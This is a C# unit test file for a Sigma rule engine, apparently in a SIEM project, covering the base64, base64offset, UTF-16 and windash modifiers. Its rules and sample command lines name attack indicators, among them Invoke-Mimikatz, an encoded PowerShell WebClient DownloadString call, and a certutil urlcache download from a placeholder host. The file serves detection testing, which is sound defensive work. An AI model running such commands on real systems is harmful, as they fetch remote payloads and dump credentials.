using System.Text;
using static Llama3Siem.Prompts.Tests.Detection.Sigma.SigmaTesting;

namespace Llama3Siem.Prompts.Tests.Detection.Sigma;

/// <summary>Conformance for the value transformations: base64, base64offset, utf16*, windash.</summary>
public sealed class SigmaEncodingTests
{
    [Fact]
    public void Base64_matches_the_encoding_of_the_value()
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|base64|contains: 'http://evil.example'
                condition: selection
            """);

        Assert.True(Matches(rule, Process(("CommandLine", "x " + Convert.ToBase64String(Encoding.UTF8.GetBytes("http://evil.example"))))));
        Assert.False(Matches(rule, Process(("CommandLine", "x http://evil.example"))));
    }

    [Theory]
    [InlineData("")]
    [InlineData("a")]
    [InlineData("ab")]
    [InlineData("abc")]
    [InlineData("abcd")]
    public void Base64offset_finds_the_value_at_each_of_the_three_byte_offsets(string before)
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|base64offset|contains: 'Invoke-Mimikatz'
                condition: selection
            """);

        foreach (var after in new[] { "", "x", "xy" })
        {
            var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "Invoke-Mimikatz" + after));
            Assert.True(Matches(rule, Process(("CommandLine", "powershell -e " + encoded))), $"'{before}' + value + '{after}'");
        }

        // Changed in the middle: the characters cut at either end cannot tell a last byte's low bits apart.
        var other = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "Invoke-MimiKatz"));
        Assert.False(Matches(rule, Process(("CommandLine", "powershell -e " + other))));
    }

    [Fact]
    public void Base64_text_is_matched_with_its_case_since_case_changes_the_bytes()
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|base64|contains: 'whoami'
                condition: selection
            """);
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes("whoami"));

        Assert.True(Matches(rule, Process(("CommandLine", encoded))));
        Assert.False(Matches(rule, Process(("CommandLine", encoded.ToUpperInvariant()))));
    }

    [Theory]
    [InlineData("")]
    [InlineData("$a=1;")]
    [InlineData("$ab=12;")]
    public void Utf16le_then_base64offset_finds_a_powershell_encoded_command(string before)
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|utf16le|base64offset|contains: 'DownloadString'
                condition: selection
            """);
        var wide = ProcessCreationRule("""
                selection:
                    CommandLine|wide|base64offset|contains: 'DownloadString'
                condition: selection
            """);

        // What -EncodedCommand carries: base64 of UTF-16LE.
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(before + "(New-Object Net.WebClient).DownloadString('http://e')"));
        Assert.True(Matches(rule, Process(("CommandLine", "powershell -enc " + encoded))));
        Assert.True(Matches(wide, Process(("CommandLine", "powershell -enc " + encoded))));

        var utf8 = Convert.ToBase64String(Encoding.UTF8.GetBytes(before + "(New-Object Net.WebClient).DownloadString('http://e')"));
        Assert.False(Matches(rule, Process(("CommandLine", "powershell -enc " + utf8))));
    }

    [Fact]
    public void Utf16be_and_utf16_with_its_byte_order_mark_are_encoded_as_written()
    {
        var bigEndian = ProcessCreationRule("""
                selection:
                    CommandLine|utf16be|base64|contains: 'calc'
                condition: selection
            """);
        var withMark = ProcessCreationRule("""
                selection:
                    CommandLine|utf16|base64: 'calc'
                condition: selection
            """);

        Assert.True(Matches(bigEndian, Process(("CommandLine", Convert.ToBase64String(Encoding.BigEndianUnicode.GetBytes("calc"))))));
        Assert.True(Matches(withMark, Process(("CommandLine", Convert.ToBase64String([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("calc")])))));
        Assert.False(Matches(withMark, Process(("CommandLine", Convert.ToBase64String(Encoding.Unicode.GetBytes("calc"))))));
    }

    [Theory]
    [InlineData("-")]
    [InlineData("/")]
    [InlineData("\u2013")]
    [InlineData("\u2014")]
    [InlineData("\u2015")]
    public void Windash_matches_a_flag_written_with_any_dash(string dash)
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|windash|contains: ' -urlcache -f '
                condition: selection
            """);

        Assert.True(Matches(rule, Process(("CommandLine", $"certutil {dash}urlcache {dash}f http://e/a.exe"))));
        Assert.True(Matches(rule, Process(("CommandLine", $"certutil -urlcache {dash}f http://e/a.exe"))));
        Assert.False(Matches(rule, Process(("CommandLine", $"certutil +urlcache {dash}f http://e/a.exe"))));
    }

    [Fact]
    public void Windash_leaves_dashes_inside_words_alone()
    {
        var rule = ProcessCreationRule("""
                selection:
                    CommandLine|windash|contains: 'Get-Process -Name'
                condition: selection
            """);

        Assert.True(Matches(rule, Process(("CommandLine", "Get-Process /Name lsass"))));
        Assert.False(Matches(rule, Process(("CommandLine", "Get/Process -Name lsass"))));
    }
}
